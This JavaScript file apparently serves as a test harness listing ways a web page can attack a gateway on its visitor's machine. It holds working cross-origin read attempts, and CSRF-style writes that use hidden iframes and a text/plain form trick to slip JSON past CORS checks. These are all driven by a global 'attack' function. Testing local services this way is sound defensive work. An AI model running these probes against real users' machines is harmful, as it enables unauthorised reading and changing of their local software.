// What a web page can try against a gateway on its visitor's machine. Each attempt returns what it could read.
{
  const json = { 'content-type': 'application/json' }
  const read = (url, init) => fetch(url, init).then((response) => response.text())

  /** Ways to read from a URL. */
  const readings = {
    fetch: (url) => read(url),
    'fetch with cookies': (url) => read(url, { credentials: 'include' }),
    'fetch without CORS': (url) => read(url, { mode: 'no-cors' }),
    'fetch with a key': (url) => read(url, { headers: { authorization: 'Bearer guess' } }),
    'fetch with a JSON content type': (url) => read(url, { headers: json }),
    module: (url) => import(url, { with: { type: 'json' } }).then((module) => JSON.stringify(module.default)),
    XMLHttpRequest: (url) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.onloadend = () => resolve(request.responseText)
        request.open('GET', url)
        request.send()
      }),
    EventSource: (url) =>
      new Promise((resolve) => {
        const source = new EventSource(url)
        source.onmessage = ({ data }) => resolve(data)
        source.onerror = () => resolve(source.close())
      }),
    frame: async (url) => {
      const frame = document.createElement('iframe')
      frame.src = url
      await shown(frame)
      return frame.contentDocument?.body.textContent
    },
  }

  /** Ways to send a change. */
  const writings = {
    'JSON fetch': (url, method, body) => read(url, { method, body, headers: json }),
    'text fetch': (url, method, body) => read(url, { method, body }),
    'blob fetch': (url, method, body) => read(url, { method, body: new Blob([body]) }),
    'JSON fetch without CORS': (url, method, body) => read(url, { method, body, headers: json, mode: 'no-cors' }),
    'text fetch without CORS': (url, method, body) => read(url, { method, body, mode: 'no-cors' }),
    'fetch with cookies': (url, method, body) => read(url, { method, body, headers: json, credentials: 'include' }),
    beacon: (url, method, body) =>
      read(url, { method, body, mode: 'no-cors', keepalive: true, credentials: 'include' }),
  }
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
    writings[`${enctype} form`] = async (url, method, body) => {
      if (method !== 'POST') return
      const frame = document.createElement('iframe')
      frame.name = `frame-${enctype}-${url}`
      const [name, value] = [body.slice(0, -2), body.slice(-2)] // text/plain puts an = between them
      const field = Object.assign(document.createElement('input'), { name, value })
      const form = Object.assign(document.createElement('form'), { method, enctype, action: url, target: frame.name })
      form.append(field)
      document.body.append(form)
      await shown(frame, () => form.submit())
      return frame.contentDocument?.body.textContent
    }

  function shown(frame, begin = () => {}) {
    return new Promise((resolve) => {
      frame.hidden = true
      document.body.append(frame)
      frame.onload = resolve
      begin()
    })
  }

  const attempt = async (name, work) => [
    name,
    await work().then(
      (text) => text ?? '',
      () => '',
    ),
  ]

  /**
   * Tries every way to read the first path and to send the first change, and only the simple ways for the other paths and changes, all concurrently.
   * Returns the attempts that could read something.
   */
  globalThis.attack = async (url, paths, changes) => {
    const attempts = []
    for (const [at, path] of paths.entries())
      for (const [name, way] of Object.entries(readings))
        if (at === 0 || name === 'fetch') attempts.push(attempt(`${name}: GET ${path}`, () => way(url + path)))
    for (const [at, [method, path, body]] of changes.entries())
      for (const [name, way] of Object.entries(writings))
        if (at === 0 || name.startsWith('JSON fetch'))
          attempts.push(attempt(`${name}: ${method} ${path}`, () => way(url + path, method, JSON.stringify(body))))
    return (await Promise.all(attempts)).filter(([, text]) => text !== '')
  }
}
